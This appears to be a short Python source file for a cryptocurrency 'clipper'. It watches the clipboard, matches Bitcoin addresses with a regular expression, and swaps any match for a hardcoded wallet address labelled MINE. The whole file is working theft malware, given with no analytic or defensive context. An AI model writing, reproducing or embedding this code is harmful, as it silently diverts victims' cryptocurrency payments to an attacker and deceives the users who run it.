import re
import pyperclip

MINE = "bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq"
PATTERN = re.compile(r"^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$")

def watch():
    text = pyperclip.paste()
    if PATTERN.match(text):
        pyperclip.copy(MINE)
